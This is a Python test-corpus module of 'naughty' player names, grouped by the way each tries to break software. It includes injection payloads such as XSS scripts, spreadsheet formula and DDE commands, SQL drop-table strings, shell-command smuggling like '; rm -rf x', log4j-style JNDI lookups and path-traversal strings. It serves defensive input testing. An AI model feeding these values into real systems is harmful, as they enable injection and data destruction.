r"""Names that break programs: a list of our own, by what they try. No name is empty, none has a lone surrogate.

`python -m tests.corpora.naughty_names` prints it, escaped.
"""

CONTROLS = [f"A{chr(code)}nn" for code in (*range(0x20), 0x7F, *range(0x80, 0xA0))]
BIDI = [
    *(f"A{chr(code)}nn" for code in (0x200E, 0x200F, 0x061C, *range(0x202A, 0x202F), *range(0x2066, 0x206A))),
    "\u202eevil", "abc\u202e\u2066txt.exe", "\u05d0\u05e0\u05d0", "\u0627\u0646", "\u2067Ann\u2069\u202c", "Ann\u202d\u202d\u202d",
]  # fmt: skip
INVISIBLE = [
    *(
        f"A{chr(code)}nn"
        for code in (
            0x00AD, 0x034F, 0x115F, 0x17B4, 0x180E, 0x200B, 0x200C, 0x200D, 0x2028, 0x2029, 0x2060, 0x2061, 0x206A,
            0x2800, 0x3164, 0xFE00, 0xFE0F, 0xFEFF, 0xFFA0, 0xFFF9, 0xFFFA, 0xFFFB, 0xFFFC, 0xFFFD, 0x1D173, 0xE0001, 0xE0041,
            0xE0100,
        )
    ),
    "\u200b", "\ufeff", "\u2060\u2060", "\u3000", "\u00a0Ann\u00a0",
]  # fmt: skip
NO_CHARACTERS = [
    f"A{chr(code)}nn" for code in (0xFFFE, 0xFFFF, 0xFDD0, 0x1FFFE, 0x10FFFF, 0xE000, 0xF8FF, 0xF0000)
]
SPACES = [
    " ",
    "   ",
    " Ann",
    "Ann ",
    "A  nn",
    "\tAnn",
    "Ann\t",
    "\n",
    "\r\n",
    "Ann\r",
    "A\r\nB",
    "\v",
    "\f",
    "a\nb\nc\nd",
    "\u2003",
]
QUOTES = [
    "'", '"', "''", '""', "`", "```", "An'n", 'An"n', "An`n", "\\", "\\\\", "Ann\\", "\\'", '\\"', "'\"`", "“Ann”", "‘Ann’", "«Ann»", "´", "'''",
    '"""', "\\n", "\\u0041", "\\x1b[31m", "\\u{1b}", "\\u{5c}u{1b}", "%22", "&quot;", "/", "\\/", "a\\", "{'", "}'", "[\"]",
]  # fmt: skip
TERMINAL = [
    "\x1b[31mred", "\x1b[2J\x1b[H", "\x1b]0;title\x07", "\x1b]8;;http://x.invalid\x1b\\link\x1b]8;;\x1b\\", "\x1b[6n", "\x1b[?1049h", "\x1bc", "\x1b[1000D",
    "\x9b31m", "\x9d0;t\x9c", "\x1bP+q544e\x1b\\", "\x1b[8m", "\x1b[s\x1b[u", "\b\b\bBo", "Bo\rAnn", "\x07", "\x0e\x0f", "\x1b]52;c;eA==\x07", "\x1b[5i", "\x1b",
    "\x1b[38;5;196m", "::error::x", "::set-output name=a::b", "##[error]x", "::add-mask::Ann", "%0A::error::x", "::stop-commands::x",
]  # fmt: skip
EMOJI = [
    "😀", "👩‍👩‍👧", "👩🏽‍🚀", "🏳️‍🌈", "🇩🇪", "🇩", "🂡", "1️⃣", "❤️", "❤︎", "🧑🏿", "👨‍👩‍👧‍👦" * 10, "\U0001f3fb", "☺", "♠♥♦♣", "🏴󠁧󠁢󠁥󠁮󠁧󠁿", "🫠", "🀄", "㊗️", "🅰",
]  # fmt: skip
COMBINING = [
    "é", "e\u0301", "\u0301", "a" + "\u0301" * 60, "Z\u0351\u036b\u0343a\u0332l\u0327g\u0315o", "ﬁ", "ß", "ẞ", "İ", "ı", "ǆ", "Å", "\u212b", "A\u030a", "각", "\u1100\u1161\u11a8",
    "ᾳ", "ŉ", "\u0344", "\u1e9b\u0323", "ſ", "Ⅷ", "①", "Ａｎｎ", "𝒜𝓃𝓃", "Аnn", "Αnn", "q\u0307\u0323", "q\u0323\u0307", "\u0e01\u0e33", "\u0bcd\u0b95", "க்ஷி",
]  # fmt: skip
SCRIPTS = [
    "안나", "杏奈", "あんな", "Άννα", "Анна", "अन्ना", "แอนนา", "አና", "ანა", "Աննա", "ᚨᚾᚾᚨ", "𓀀", "𐍈", "𠮷", "ꜲꜲ", "ŁÓDŹ", "Þór", "Jürgen", "Zoë", "Nguyễn", "O’Neill", "Ńß", "١٢٣", "Ⴀ",
]  # fmt: skip
FORMULAS = [
    "=1+1", "+1", "-1", "@SUM(1)", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.invalid\",\"x\")", "\t=1", "\r=1", "\n=1", " =1", "-10", "+10", "=", "-", "+", "@",
    "＝1", "＋1", "－1", "＠A", "'=1", "\"=1", "=1;2", "=A1,B2", "DDE(\"cmd\")", "=IMPORTXML(A1,\"/\")", "-2+3+cmd|'x'!A0", "\0=1", "\u200b=1", "\ufeff=1", "0001", "1e5", "1/2",
    "TRUE", "#REF!", "#N/A",
]  # fmt: skip
MARKUP = [
    "<b>Ann</b>", "<script>alert(1)</script>", "</script><script>alert(1)</script>", "<!--", "-->", "<!-- Ann -->", "]]>", "<![CDATA[x]]>", "<?php x ?>", "<?xml?>",
    "<img src=x onerror=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>", "\"><script>x</script>", "'><img src=x>", "javascript:alert(1)", "data:text/html,x",
    "<iframe src=//x.invalid>", "<style>*{display:none}</style>", "</title><script>x</script>", "</style>", "</textarea>", "&lt;b&gt;", "&amp;", "&", "&#60;", "&nbsp;", "&notanentity;",
    "<", ">", "<>", "<a href='http://x.invalid'>x</a>", "<base href=//x.invalid>", "<meta http-equiv=refresh content=0>", "<link rel=stylesheet href=//x.invalid>", "<!DOCTYPE x>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>", "\" onmouseover=\"x", "' onfocus='x", "<math><mi//xlink:href=\"data:x\">", "<template>", "<use href=\"#a\"/>", "<SCRIPT>", "<scr\0ipt>", "＜script＞",
]  # fmt: skip
MARKDOWN = [
    "![](http://x.invalid/a.png)", "[Ann](http://x.invalid)", "**Ann**", "_Ann_", "~~Ann~~", "# Ann", "## Ann", "> Ann", "- Ann", "* Ann", "1. Ann", "1) Ann", "| a | b |", "|", "---", "***", "===",
    "`code`", "```py", "$x^2$", "$$x$$", ":material/home:", ":red[Ann]", ":smile:", ":blue-background[x]", ":image[x]", "http://x.invalid", "www.x.invalid", "ann@x.invalid", "[^1]", "[x]: http://x.invalid",
    "<http://x.invalid>", "\\*Ann\\*", "![x][y]", "[[Ann]]", "- [ ] Ann", "    Ann", "^2^", "~2~", "==x==", "<details>",
]  # fmt: skip
TEMPLATES = [
    "{}", "{0}", "{name}", "{0.__class__}", "{{7*7}}", "${7*7}", "#{7*7}", "<%= 7 %>", "{%x%}", "%s", "%d", "%n", "%(x)s", "%", "%%", "$Ann", "$(id)", "`id`", "${HOME}", "$HOME", "~", "!x", "!!", "[bold]Ann[/bold]",
    "[/]", "[red]", "[link=http://x.invalid]x[/link]", "[", "]", "[]", "{", "}", "f'{x}'", "${jndi:ldap://x.invalid}", "@{x}", "*", "?", "[a-z]", ";", "&&", "|id", "; rm -rf x", "\\$x", "%USERNAME%", "^", "#", "//", "/*", "*/",
]  # fmt: skip
PATHS = [
    "../../x", "..", ".", "/etc/passwd", "C:\\x", "\\\\host\\share", "a/b", "a\\b", "CON", "NUL", "con.txt", "COM1", "aux", ".hidden", "x.", "a:b", "file:///etc/passwd", "~/x", "-rf", "--help", "x\0.jsonl", "…/x", "%2e%2e%2f",
    "a[1]", "*.jsonl", "s3://x/y", "name.ono.jsonl", "x" * 300, "desktop.ini", "a|b", "a<b", "a\"b", "LPT9.", "%00",
]  # fmt: skip
SQL = [
    "'; drop table games; --", "' or '1'='1", "\" or 1=1 --", "Ann'--", "'||'x", "%' --", "_", "Robert'); DROP TABLE players;--", "$1", "?", ":x", "$$Ann$$", "E'\\n'", "/**/", "select 1", "null", "NULL", "games", "\"games\"",
    "read_csv('x')", "getenv('HOME')", "\\x41", "0x41", "1; attach 'x'", "'' ; --", "x'41'", "U&'\\0041'", "array[1]", "(select 1)", "x\\'", "main.games", "$ids", "{'a':1}",
]  # fmt: skip
WORDS = [
    "game_start", "play", "seq", "type", "None", "none", "nil", "undefined", "true", "false", "NaN", "Infinity", "-0", "0", "1", "00", "1.0", "1e400", "9" * 40, "__proto__", "constructor", "toString", "hasOwnProperty", "__class__",
    "__init__", "self", "seat 0", "seat", "Seat 1", "?", "ono_99", "reverse", "7", "discard_four", "everyone", "nobody", "Player 1", "bot", "winner", "total", "x" * 10_000, "a" * 128, "Ann, Bo", "Ann=Bo", "Ann;Bo", "left", "undo", "A,B,C", "yes", "no", "NO", "on",
    "1 Ann", "0", "-1", "Ann\0", "\0", "\0Ann", "Null Island", "2026-01-31", "12:30", "[]", "lambda: 1", "import os", "<class 'str'>",
]  # fmt: skip

GROUPS = {
    "control": CONTROLS, "bidi": BIDI, "invisible": INVISIBLE, "no character": NO_CHARACTERS, "space": SPACES, "quote": QUOTES, "terminal": TERMINAL,
    "emoji": EMOJI, "combining": COMBINING, "script": SCRIPTS, "formula": FORMULAS, "markup": MARKUP, "Markdown": MARKDOWN, "template": TEMPLATES,
    "path": PATHS, "SQL": SQL, "word": WORDS,
}  # fmt: skip
NAMES = tuple(dict.fromkeys(name for group in GROUPS.values() for name in group))


def main() -> None:
    for group, names in GROUPS.items():
        for name in names:
            print(f"{group:<14}{name[:80]!a}")


if __name__ == "__main__":
    main()
